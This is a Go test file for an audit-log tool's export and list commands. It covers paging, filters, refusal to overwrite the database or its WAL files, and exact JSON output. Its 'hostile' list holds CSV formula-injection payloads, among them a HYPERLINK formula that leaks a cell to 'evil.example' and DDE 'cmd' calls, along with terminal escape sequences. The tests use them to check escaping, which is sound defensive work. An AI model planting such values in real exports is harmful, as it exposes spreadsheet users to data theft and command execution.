package main

import (
	"encoding/csv"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/cleveragents/audit"
	"github.com/cleveragents/audit/internal/testutil"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func TestExport(t *testing.T) {
	const n = 2500 // three pages of 1000
	path := makeDB(t, n)
	stored := entries(t, path)
	require.Len(t, stored, n)

	checkJSONL := func(t *testing.T, out string) {
		t.Helper()
		objs := jsonLines(t, out)
		require.Len(t, objs, n)
		for i, obj := range objs {
			assertEntryJSON(t, i+1, obj)
			assert.Equal(t, stored[i].Hash, obj["hash"])
			assert.Equal(t, stored[i].PrevHash, obj["prev_hash"])
		}
	}
	checkCSV := func(t *testing.T, out string) {
		t.Helper()
		recs, err := csv.NewReader(strings.NewReader(out)).ReadAll()
		require.NoError(t, err)
		require.Len(t, recs, n+1)
		assert.Equal(t, []string{"id", "time", "event_type", "actor", "resource", "outcome", "request_id", "details", "prev_hash", "hash"}, recs[0])
		for i, rec := range recs[1:] {
			e := entryFor(i + 1)
			require.Equal(t, []string{
				strconv.Itoa(i + 1), e.Time.Format("2006-01-02T15:04:05.000000000Z"), e.EventType, e.Actor,
				e.Resource, e.Outcome, e.RequestID, fmt.Sprintf(`{"i":%d,"ip":"10.0.0.1"}`, i+1),
				stored[i].PrevHash, stored[i].Hash,
			}, rec)
		}
	}

	t.Run("jsonl to stdout, across pages", func(t *testing.T) {
		r := runCLI(t, "", "--db", path, "export", "--format", "jsonl")
		require.Equal(t, 0, r.code, r.stderr)
		checkJSONL(t, r.stdout)
		assert.Empty(t, r.stderr, "no progress bar when stderr is not a terminal")
	})

	t.Run("jsonl is the default format", func(t *testing.T) {
		r := runCLI(t, "", "--db", path, "export")
		require.Equal(t, 0, r.code, r.stderr)
		assert.Len(t, jsonLines(t, r.stdout), n)
	})

	t.Run("csv to stdout, across pages", func(t *testing.T) {
		r := runCLI(t, "", "--db", path, "export", "--format", "csv")
		require.Equal(t, 0, r.code, r.stderr)
		checkCSV(t, r.stdout)
	})

	for _, format := range []string{"jsonl", "csv"} {
		t.Run(format+" to --out", func(t *testing.T) {
			dir := t.TempDir()
			out := filepath.Join(dir, "export."+format)
			require.NoError(t, os.WriteFile(out, []byte("stale"), 0o600))
			r := runCLI(t, "", "--db", path, "export", "--format", format, "--out", out, "--force")
			require.Equal(t, 0, r.code, r)
			assert.Empty(t, r.stdout)
			assert.Contains(t, r.stderr, fmt.Sprintf("exported %d entries to %s", n, out))
			b, err := os.ReadFile(out)
			require.NoError(t, err)
			if format == "csv" {
				checkCSV(t, string(b))
			} else {
				checkJSONL(t, string(b))
			}
			names, err := os.ReadDir(dir)
			require.NoError(t, err)
			assert.Len(t, names, 1, "no temporary file is left behind")
		})
	}

	t.Run("honours the filters", func(t *testing.T) {
		r := runCLI(t, "", "--db", path, "export", "--actor", "alice", "--since", "2020-01-01T10:00:00Z")
		require.Equal(t, 0, r.code, r.stderr)
		objs := jsonLines(t, r.stdout)
		// alice is every 4th entry; entry 600 is at 10:00.
		require.Len(t, objs, (n-600)/4+1)
		for _, obj := range objs {
			id := int(obj["id"].(float64))
			assert.Equal(t, 0, id%4)
			assert.GreaterOrEqual(t, id, 600)
			assertEntryJSON(t, id, obj)
		}
	})

	t.Run("a failed export leaves no --out file", func(t *testing.T) {
		out := filepath.Join(t.TempDir(), "no-such-dir", "x.csv")
		r := runCLI(t, "", "--db", path, "export", "--format", "csv", "--out", out)
		require.Equal(t, 1, r.code, r)
		assert.Contains(t, r.stderr, "--out")
		assert.NoFileExists(t, out)
	})

	t.Run("list pages too: --limit 0 is everything, --limit beyond a page", func(t *testing.T) {
		r := runCLI(t, "", "--db", path, "list", "--limit", "0")
		require.Equal(t, 0, r.code, r.stderr)
		_, rows := tableRows(t, r.stdout)
		assert.Equal(t, seq(1, n), ids(t, rows))

		r = runCLI(t, "", "--db", path, "list", "--limit", "1500", "--desc", "--json")
		require.Equal(t, 0, r.code, r.stderr)
		objs := jsonLines(t, r.stdout)
		require.Len(t, objs, 1500)
		for k, obj := range objs {
			assertEntryJSON(t, n-k, obj)
		}
	})
}

func TestExportOut(t *testing.T) {
	path := makeDB(t, 3)
	dir := filepath.Dir(path)
	before, err := os.ReadFile(path)
	require.NoError(t, err)
	other := t.TempDir()
	link := filepath.Join(other, "link.db")
	require.NoError(t, os.Symlink(path, link))
	hard := filepath.Join(dir, "hard.db")
	require.NoError(t, os.Link(path, hard))

	// A reader keeps the log open: its -wal and -shm files exist meanwhile.
	reader := testutil.RawDB(t, path)
	_, err = reader.Exec(`SELECT count(*) FROM audit_entries`)
	require.NoError(t, err)
	require.FileExists(t, path+"-wal")
	require.FileExists(t, path+"-shm")
	walLink := filepath.Join(other, "wal-link")
	require.NoError(t, os.Symlink(path+"-wal", walLink))

	for _, tc := range []struct{ name, out string }{
		{"the database", path},
		{"the database through a symlink", link},
		{"the database through a hard link", hard},
		{"the database spelled another way", filepath.Join(dir, ".", "..", filepath.Base(dir), "audit.db")},
		{"its -wal", path + "-wal"},
		{"its -wal through a symlink", walLink},
		{"its -shm", path + "-shm"},
		{"its -journal, which does not exist", path + "-journal"},
		{"its -wal spelled another way", filepath.Join(dir, "..", filepath.Base(dir), "AUDIT.db-wal")},
	} {
		for _, force := range []bool{false, true} {
			t.Run(fmt.Sprintf("%s, --force %v", tc.name, force), func(t *testing.T) {
				args := []string{"--db", path, "export", "--format", "csv", "--out", tc.out}
				if force {
					args = append(args, "--force")
				}
				r := runCLI(t, "", args...)
				require.Equal(t, exitUsage, r.code, r)
				assert.Contains(t, r.stderr, "--out "+tc.out+" is the database")
				assert.Contains(t, r.stderr, "export never writes over the log")
			})
		}
	}
	require.NoError(t, reader.Close())
	after, err := os.ReadFile(path)
	require.NoError(t, err)
	assert.Equal(t, before, after, "the database is untouched")
	assert.NoFileExists(t, path+"-journal")
	assert.Len(t, entries(t, path), 3)

	t.Run("an existing file needs --force", func(t *testing.T) {
		out := filepath.Join(t.TempDir(), "old.csv")
		require.NoError(t, os.WriteFile(out, []byte("keep"), 0o600))
		r := runCLI(t, "", "--db", path, "export", "--out", out)
		require.Equal(t, exitUsage, r.code, r)
		assert.Contains(t, r.stderr, "--out "+out+" exists: give --force to replace it")
		b, err := os.ReadFile(out)
		require.NoError(t, err)
		assert.Equal(t, "keep", string(b))
		names, err := os.ReadDir(filepath.Dir(out))
		require.NoError(t, err)
		assert.Len(t, names, 1, "no temporary file is left behind")

		r = runCLI(t, "", "--db", path, "export", "--out", out, "--force")
		require.Equal(t, 0, r.code, r)
		b, err = os.ReadFile(out)
		require.NoError(t, err)
		assert.Len(t, jsonLines(t, string(b)), 3)
	})

	t.Run("a new file needs no --force", func(t *testing.T) {
		out := filepath.Join(t.TempDir(), "new.jsonl")
		r := runCLI(t, "", "--db", path, "export", "--out", out)
		require.Equal(t, 0, r.code, r)
		b, err := os.ReadFile(out)
		require.NoError(t, err)
		assert.Len(t, jsonLines(t, string(b)), 3)
	})

	t.Run("a directory is refused", func(t *testing.T) {
		r := runCLI(t, "", "--db", path, "export", "--out", t.TempDir(), "--force")
		require.Equal(t, exitUsage, r.code, r)
		assert.Contains(t, r.stderr, "is a directory")
	})
}

// hostile are field values that are formulas in a spreadsheet or control
// sequences on a terminal.
var hostile = []string{
	`=HYPERLINK("http://evil.example/?"&A1,"click")`,
	"+1+cmd|' /C calc'!A0",
	"-2+3",
	"@SUM(1+1)*cmd|' /C calc'!A0",
	"\t=1+1",
	"\r=1+1",
	"'already quoted",
	`"looks Go-quoted"`,
	"evil\x1b]0;pwned\x07\x1b[2J\x1b[H",
	"line\nbreak",
	"del\x7f and c1 \u009b31m and rlo \u202e",
	"a;=1+1",
	"plain value, with a comma",
}

func TestExportCSVEscaping(t *testing.T) {
	var es []audit.Entry
	for i, h := range hostile {
		es = append(es, audit.Entry{Time: base.Add(time.Duration(i) * time.Second), EventType: "x", Actor: h, Resource: h, Details: map[string]any{"v": h}})
	}
	path := makeDBWith(t, es)
	execSQL(t, path, `UPDATE audit_entries SET outcome = CAST(X'9B324A' AS TEXT) WHERE id = 1`) // invalid UTF-8: a lone 8-bit CSI

	r := runCLI(t, "", "--db", path, "export", "--format", "csv")
	require.Equal(t, 0, r.code, r)
	t.Run("nothing a terminal acts on", func(t *testing.T) {
		for i := 0; i < len(r.stdout); i++ {
			if c := r.stdout[i]; c < 0x20 && c != '\n' || c == 0x7f {
				t.Fatalf("byte %#x at %d: %q", c, i, r.stdout[max(0, i-20):min(len(r.stdout), i+20)])
			}
		}
		assert.True(t, utf8.ValidString(r.stdout))
		for _, c := range r.stdout {
			assert.False(t, c >= 0x80 && c <= 0x9f || c == '\u202e', "C1 or bidi control %U", c)
		}
		assert.Equal(t, len(hostile)+1, strings.Count(r.stdout, "\n"), "one line per record")
	})
	t.Run("every field quoted, no formula", func(t *testing.T) {
		for _, line := range strings.Split(strings.TrimSuffix(r.stdout, "\n"), "\n") {
			assert.True(t, strings.HasPrefix(line, `"`) && strings.HasSuffix(line, `"`), line)
			assert.NotContains(t, line, `,"=`)
			assert.NotContains(t, line, `,"+`)
			assert.NotContains(t, line, `,"-`)
			assert.NotContains(t, line, `,"@`)
		}
	})
	recs, err := csv.NewReader(strings.NewReader(r.stdout)).ReadAll()
	require.NoError(t, err)
	require.Len(t, recs, len(hostile)+1)
	t.Run("the documented forms", func(t *testing.T) {
		want := []string{
			`'=HYPERLINK("http://evil.example/?"&A1,"click")`,
			"'+1+cmd|' /C calc'!A0",
			"'-2+3",
			"'@SUM(1+1)*cmd|' /C calc'!A0",
			`"\t=1+1"`,
			`"\r=1+1"`,
			"''already quoted",
			`"\"looks Go-quoted\""`,
			`"evil\x1b]0;pwned\a\x1b[2J\x1b[H"`,
			`"line\nbreak"`,
			`"del\x7f and c1 \u009b31m and rlo \u202e"`,
			"a;=1+1",
			"plain value, with a comma",
		}
		for i, rec := range recs[1:] {
			assert.Equal(t, want[i], rec[3], "actor of entry %d", i+1)
			assert.Equal(t, want[i], rec[4], "resource of entry %d", i+1)
		}
		assert.Equal(t, `"\x9b2J"`, recs[1][5], "invalid UTF-8 is Go-quoted byte by byte")
	})
	t.Run("undone, they give the values back", func(t *testing.T) {
		for i, rec := range recs[1:] {
			assert.Equal(t, hostile[i], unescapeCSV(t, rec[3]))
			var d map[string]string
			require.NoError(t, json.Unmarshal([]byte(unescapeCSV(t, rec[7])), &d))
			assert.Equal(t, hostile[i], d["v"])
		}
	})
	t.Run("JSON lines stay exact", func(t *testing.T) {
		r := runCLI(t, "", "--db", path, "export")
		require.Equal(t, 0, r.code, r)
		assert.NotContains(t, r.stdout, "\x1b")
		assert.NotContains(t, r.stdout, "\r")
		for i, obj := range jsonLines(t, r.stdout) {
			assert.Equal(t, hostile[i], obj["actor"])
			assert.Equal(t, map[string]any{"v": hostile[i]}, obj["details"])
		}
	})
}

// unescapeCSV undoes csvCell, as the export's help says.
func unescapeCSV(t *testing.T, s string) string {
	t.Helper()
	s = strings.TrimPrefix(s, "'")
	if strings.HasPrefix(s, `"`) {
		u, err := strconv.Unquote(s)
		require.NoError(t, err, s)
		return u
	}
	return s
}

// TestExportDetailsExact: export and list --json write the Details JSON
// that the library stored and hashed, byte for byte: digits beyond a
// float64's, and < > & escaped as stored.
func TestExportDetailsExact(t *testing.T) {
	path := makeDBWith(t, []audit.Entry{
		{Time: base, EventType: "x", Actor: "a", Details: map[string]any{"n": 1234567890123456789}},
		{Time: base, EventType: "x", Actor: "a", Details: map[string]any{"big": uint64(18446744073709551615), "f": 2.5, "e": 1e21, "html": "<b>&</b>", "nested": map[string]any{"z": []any{1, "two", nil, true}, "a": -0.000001}}},
	})
	var stored []string
	rows, err := testutil.RawDB(t, path).Query(`SELECT details FROM audit_entries ORDER BY id`)
	require.NoError(t, err)
	for rows.Next() {
		var d string
		require.NoError(t, rows.Scan(&d))
		stored = append(stored, d)
	}
	require.NoError(t, rows.Err())
	require.Equal(t, `{"n":1234567890123456789}`, stored[0])

	for _, args := range [][]string{{"export"}, {"list", "--json"}} {
		r := runCLI(t, "", append([]string{"--db", path}, args...)...)
		require.Equal(t, 0, r.code, r)
		lines := strings.Split(strings.TrimSuffix(r.stdout, "\n"), "\n")
		require.Len(t, lines, 2)
		for i, line := range lines {
			assert.Contains(t, line, `,"details":`+stored[i]+`,"prev_hash":`, args)
		}
	}
	r := runCLI(t, "", "--db", path, "export", "--format", "csv")
	require.Equal(t, 0, r.code, r)
	recs, err := csv.NewReader(strings.NewReader(r.stdout)).ReadAll()
	require.NoError(t, err)
	assert.Equal(t, stored[0], recs[1][7])
	assert.Equal(t, stored[1], recs[2][7])
}
